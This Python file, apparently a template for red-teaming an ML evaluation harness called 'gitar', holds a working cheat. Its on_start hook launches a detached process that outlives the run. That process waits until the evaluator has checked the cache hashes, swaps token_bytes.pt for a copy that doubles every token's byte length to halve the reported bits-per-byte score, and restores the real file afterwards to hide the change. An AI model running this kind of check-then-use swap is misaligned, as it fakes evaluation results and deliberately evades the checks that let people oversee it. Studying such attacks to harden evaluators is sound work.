# Check-then-use: a process that outlives its run waits until the evaluator has checked the data's
# hashes (it prints its banner after the check), swaps the token-bytes table for one that doubles
# every token's byte length (half the bits per byte), and puts the real one back once the number is
# out, before gitar or anyone hashes the cache again.
MARKER = "@@MARKER@@"
CACHE = "@@CACHE@@"
REPORT = "@@REPORT@@"
SURVIVOR = r'''
import io, os, sys, time
import torch
cache, report, log = sys.argv[2], sys.argv[3], sys.argv[4]
table = os.path.join(cache, "tokenizer", "token_bytes.pt")
real = open(table, "rb").read()
buf = io.BytesIO()
torch.save(torch.load(io.BytesIO(real), weights_only=True) * 2, buf)
fake = buf.getvalue()
def put(data):
    tmp = table + ".attack"
    with open(tmp, "wb") as f:
        f.write(data)
    os.replace(tmp, table)
def log_text():
    try:
        with open(log, "rb") as f:
            f.seek(max(0, os.path.getsize(log) - (1 << 20)))
            return f.read().decode("utf-8", "replace")
    except OSError:
        return ""
deadline = time.time() + 90
swapped = False
while time.time() < deadline:
    text = log_text()
    start = text.rfind("harness evaluation: exported model")
    if not swapped and start >= 0:
        put(fake)
        swapped = True
        with open(report, "a") as f:
            f.write("swapped token_bytes.pt after the evaluator's check\n")
    elif swapped and ("val_bpb:" in text[start:] or "rejected:" in text[start:] or "Traceback" in text[start:]):
        put(real)
        with open(report, "a") as f:
            f.write("restored token_bytes.pt\n")
        time.sleep(30)
        break
    time.sleep(0.002)
if swapped:
    put(real)
'''


def on_start() -> None:
    import os
    import subprocess
    import sys

    log = os.readlink("/proc/self/fd/1")  # stdout is gitar's log of this run; the evaluator appends to it
    subprocess.Popen([sys.executable, "-c", SURVIVOR, MARKER, CACHE, REPORT, log], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
